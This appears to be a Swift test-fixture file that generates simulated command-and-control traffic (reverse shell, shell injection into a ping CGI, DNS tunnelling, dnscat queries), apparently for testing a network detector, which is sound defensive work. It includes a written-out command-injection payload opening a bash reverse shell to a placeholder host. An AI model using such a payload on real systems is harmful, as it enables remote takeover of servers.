import NetTypes
import TestSupport

extension Scenario {
    /// A machine that answers to somebody else.
    static var commandAndControl: [Scenario] { [reverseShell, injectedShell, dnsTunnel, dnsCommands] }

    private static var reverseShell: Scenario {
        var talk = Conversation(client: "198.51.100.10", 43001, server: "203.0.113.90", 4444)
        talk.handshake()
        talk.client(sends: "bash: cannot set terminal process group (812): Inappropriate ioctl for device\n")
        talk.client(sends: "bash: no job control in this shell\nwww-data@portal:/var/www/html$ ", segment: 7)
        talk.server(sends: "sudo -n id\n")
        talk.client(
            sends: "sudo -n id\nuid=0(root) gid=0(root) groups=0(root)\nwww-data@portal:/var/www/html$ ")
        talk.reset(by: .toClient)
        return Scenario("c2/reverse-shell", talk.frames)
    }

    private static var injectedShell: Scenario {
        var talk = Conversation(client: "203.0.113.91", 43002, server: "198.51.100.10", 8088)
        talk.handshake()
        talk.client(
            sends: Text.request(
                "POST", "/cgi-bin/ping", host: "giamsat.example",
                body: "host=127.0.0.1; bash -i >& /dev/tcp/203.0.113.91/4444 0>&1"))
        talk.server(sends: Text.response("pinging"))
        talk.close()
        return Scenario("c2/reverse-shell-injection", talk.frames)
    }

    private static var dnsTunnel: Scenario {
        var talk = DatagramExchange(client: "198.51.100.40", 43003, server: "203.0.113.53", 53)
        let zone = NameMessage.labels("t.tunnel.example")
        let probes: [[UInt8]] = [
            Array("vaaaakasgd1".utf8),
            Array("zgq2aA-Aaahhh-Drink-mal-ein-J".utf8) + [0xe4] + Array("germeister-".utf8),
            Array("zgq3aAbBcCdDeEfFgGhHiIjJkKlLmMnNoOpPqQrRsStTuUvVwWxXyYzZ".utf8),
        ]
        for (index, probe) in probes.enumerated() {
            let identifier = UInt16(0x4d00 + index)
            talk.client(sends: NameMessage.query([probe] + zone, type: 10, identifier: identifier))
            talk.server(
                sends: NameMessage.answer([probe] + zone, type: 10, identifier: identifier, data: probe))
        }
        return Scenario("c2/dns-tunnel", talk.frames)
    }

    private static var dnsCommands: Scenario {
        var talk = DatagramExchange(client: "198.51.100.41", 43004, server: "203.0.113.53", 53)
        for index in 0..<4 {
            let data = (0..<20).map { UInt8(truncatingIfNeeded: $0 * 37 + index * 11) }.hexadecimal
            let name = "dnscat.\(data)"
            talk.client(sends: NameMessage.query(name, type: 16, identifier: UInt16(0x5100 + index)))
            talk.server(
                sends: NameMessage.answer(
                    name, type: 16, identifier: UInt16(0x5100 + index), data: [4] + Array("c0de".utf8)))
        }
        return Scenario("c2/dns-tunnel-commands", talk.frames)
    }
}
